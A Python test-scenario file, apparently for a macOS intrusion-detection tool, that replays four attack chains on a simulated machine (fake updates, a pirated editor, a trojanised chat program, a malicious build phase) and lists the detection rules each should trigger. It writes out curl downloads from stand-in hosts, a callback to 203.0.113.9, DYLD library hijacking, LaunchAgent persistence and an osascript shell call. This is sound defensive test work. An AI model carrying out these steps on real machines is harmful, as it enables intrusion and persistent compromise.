"""Chains after what is publicly known of intrusions. Names, hashes and addresses are invented."""

from book import Book
from mac import AD_HOC, DEBUGGABLE, HOME, LAUNCHD, SHELL, TEMP, Library, Program, apple
from people import BASH, CHAT, CURL, LOOSE, LOOSE_KIT, PYTHON, dropped

BOOK = Book()
SCENARIOS = BOOK.scenarios


def bridge_bot(mac):
    """Somebody who trades is talked into running a bot in Python. It fetches a program into a hidden name below /Users/Shared; that links
    its payload from memory, and swaps a chat program's executable for a loader, so that it comes back whenever the chat program is started."""
    mac.exit(mac.start(CHAT, LAUNCHD))
    bot = mac.start(PYTHON, SHELL, ["python3", "watcher.py"])
    loader = "/Users/Shared/.sld"
    mac.begin()
    mac.write(bot, loader)
    mac.wait(2)
    p = mac.start(dropped(loader, ".sld", born=mac.now), bot)
    bundle = TEMP + "/NSCreateObjectFileImageFromMemory-Rz81LmQp"
    mac.write(p, bundle)
    mac.load(p, Library(bundle, is_known=False))
    mac.unlink(p, bundle)
    item = HOME + "/Library/LaunchAgents/com.example.sld.plist"
    mac.write(p, item)
    btm = mac.start(apple("/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Resources/backgroundtaskmanagementd",
                          "com.apple.backgroundtaskmanagementd"), LAUNCHD, uid=0)
    mac.launch_item(btm, item, loader)
    directory = CHAT.path.rpartition("/")[0]
    mac.rename(p, CHAT.path, directory + "/.lock")
    mac.rename(p, "/Users/Shared/.hl", CHAT.path)
    mac.wait(20)
    stand_in = mac.start(Program(CHAT.path, "HLOADER-5555494e", AD_HOC, born=-10.0, build="hl"), LAUNCHD)
    mac.rename(stand_in, CHAT.path, directory + "/.log")
    mac.rename(stand_in, directory + "/.lock", CHAT.path)
    mac.start(CHAT, stand_in)
    return loader


BOOK.sample("bridge-bot", "Bot in Python, code from memory, a chat program's stand-in", bridge_bot,
            [(["S01"], "/Users/Shared/.sld"), (["S15", "S15-persist"], "/Users/Shared/.sld"), (["S18", "S18-self"], CHAT.path)],
            allow=["S24", "S11-exec", "S11-weak", "S18-weak", "S18-self"])


def meeting_helper(mac):
    """A false update of a meeting program leaves a loader that may be debugged and may debug. It starts a benign program of its own,
    takes its control port before it does anything, and makes a thread in it; the child then calls home."""
    loader = dropped(HOME + "/Library/CoreServices/meeting-update", "meeting-update", flags=AD_HOC | DEBUGGABLE)
    child = dropped(HOME + "/Library/CoreServices/notify", "notify")
    curl = mac.start(CURL, mac.start(BASH, SHELL, ["bash", "-c", "zsh"]), ["curl", "-so", loader.path, "https://support.example/u"])
    mac.write(curl, loader.path)
    mac.write(curl, child.path)
    mac.wait(2)
    mac.begin()
    p = mac.start(loader)
    q = mac.start(child, p)
    mac.task(p, q)
    mac.wait()
    mac.remote_thread(p, q)
    mac.mprotect(q, 5)
    mac.connect(q, "203.0.113.9", 443)
    return loader.path


BOOK.sample("meeting-update", "False update fills a child with code", meeting_helper,
            [(["S06"], HOME + "/Library/CoreServices/meeting-update"), (["S05"], HOME + "/Library/CoreServices/meeting-update")],
            allow=["S03", "S15", "S15-weak", "S21", "S24", "S02-weak"])


def pirated_editor(mac):
    """A pirated editor is started from its disk image. A library that its vendor never put there maps, leaves a hidden program in a
    temporary folder and one below /Users/Shared, starts both, and the second sets itself up to start again."""
    root = "/Volumes/Vellum 31/Vellum.app/Contents"
    mac.begin()
    p = mac.start(Program(root + "/MacOS/Vellum", "com.example.vellum", AD_HOC, born=-9 * 86400.0, frameworks=("AppKit", "Foundation")), LAUNCHD)
    mac.load(p, Library(root + "/Frameworks/libConfigurer.dylib", "unsigned", born=-9 * 86400.0))
    mac.wait(2)
    for path in ("/private/tmp/.test", "/Users/Shared/.fseventsd"):
        mac.write(p, path)
        mac.wait()
        q = mac.start(dropped(path, "mac", born=mac.now), p)
    item = HOME + "/Library/LaunchAgents/com.example.fseventsd.plist"
    mac.write(q, item)
    mac.mprotect(q, 5)
    btm = mac.start(apple("/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Resources/backgroundtaskmanagementd",
                          "com.apple.backgroundtaskmanagementd"), LAUNCHD, uid=0)
    mac.launch_item(btm, item, "/Users/Shared/.fseventsd")
    return root + "/MacOS/Vellum"


BOOK.sample("pirated-editor", "Pirated editor starts hidden programs", pirated_editor,
            [(["S12"], "/Volumes/Vellum 31/Vellum.app/Contents/MacOS/Vellum"), (["S15", "S15-persist"], "/Users/Shared/.fseventsd")],
            allow=["S24", "S15-weak", "S03"])


def build_phase(mac):
    """A project that somebody shared has a script among its build phases. It puts a framework into the user's caches and starts an application
    with dyld's path before it; the application maps the framework instead of its own."""
    make = mac.start(BASH, SHELL, ["bash", "phase.sh"])
    path = HOME + "/Library/Caches/GitServices/LarkspurKit.framework/Versions/A/LarkspurKit"
    curl = mac.start(CURL, make, ["curl", "-so", path, "https://adoption.example/k"])
    mac.write(curl, path)
    mac.begin()
    p = mac.start(LOOSE, make, env=["DYLD_FRAMEWORK_PATH=" + HOME + "/Library/Caches/GitServices",
                                    "DYLD_LIBRARY_PATH=" + HOME + "/Library/Caches/GitServices"])
    mac.load(p, Library(path, "adhoc", identifier="LarkspurKit"))
    mac.load(p, LOOSE_KIT)
    mac.wait()
    mac.start(OSASCRIPT_NAME, p, ["osascript", "-e", "do shell script \"whoami\""])
    return LOOSE.path


OSASCRIPT_NAME = apple("/usr/bin/osascript", "com.apple.osascript")

BOOK.sample("build-phase", "Build phase injects a framework", build_phase, [(["S08"], LOOSE.path)], allow=["S20", "S09-library", "S09"])
